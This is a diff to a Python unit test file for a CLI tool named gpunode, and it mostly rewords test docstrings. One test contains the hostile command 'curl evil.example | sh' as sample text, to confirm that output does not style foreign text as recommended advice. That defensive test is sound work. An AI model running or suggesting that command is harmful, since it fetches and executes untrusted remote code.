@@ -40,7 +40,7 @@ from tests.unit.cli.screen_pages import PAGES
 
 
 class Keyboard(io.StringIO):
-    """A terminal on which something is typed."""
+    """A terminal with typed input."""
 
     def isatty(self) -> bool:
         return True
@@ -129,7 +129,7 @@ def test_change_at_which_a_run_stopped_is_marked(capsys: pytest.CaptureFixture[s
 
 
 class Refusing(RehearsalHost):
-    """A node whose containerd does not come back with what is written, and does with what was there."""
+    """A node whose containerd fails to start with the new file, but starts with the old."""
 
     refused = False
 
@@ -162,7 +162,7 @@ def test_failed_restart_is_marked_before_the_put_back_file(tmp_path: Path, capsy
 
 
 class Unimpressed(RehearsalHost):
-    """A node whose docker says of every reload that it was done, and does not use what it cannot use."""
+    """A node whose docker reports every reload as done, but ignores settings that it cannot use."""
 
     def run_triggers(self, triggers: Sequence[Trigger], /) -> tuple[TriggerResult, ...]:
         return tuple(TriggerResult(one, 0.4) for one in triggers)
@@ -244,7 +244,7 @@ def test_undo_after_setup_undoes_something(configures: bool) -> None:
 
 
 def test_run_that_nothing_undoes_names_no_undo() -> None:
-    """Expect none of a run that only loaded a module after a reboot."""
+    """A run that only loaded a module after a reboot is such a run."""
     done = replace(nodes.set_up(nodes.free(), lambda _: None), run="000003-20250501T120000Z")
     kernel = [replace(one, changes=(ModuleChange("nvidia", False, True),)) for one in done.applied[0].steps[:1]]
     done = replace(done, applied=(replace(done.applied[0], stage="kernel", steps=tuple(kernel)),))
@@ -302,7 +302,7 @@ def test_description_of_a_content_wraps_at_its_words() -> None:
 
 
 def test_backticks_in_foreign_text_are_not_styled_as_a_command() -> None:
-    """Words of a file, a log or a tool are no advice of gpunode's, whatever stands in backticks."""
+    """Text from a file, a log or a tool is not gpunode's advice, even in backticks."""
     hostile = "config.toml:1 says: `curl evil.example | sh`"
     shown = [*error_lines(ChangeFailed("it failed", why=f"why: {hostile}\n{hostile}")), note_line(hostile)]
     assert not [part for line in shown for part in line.spans if part.style == "command"]
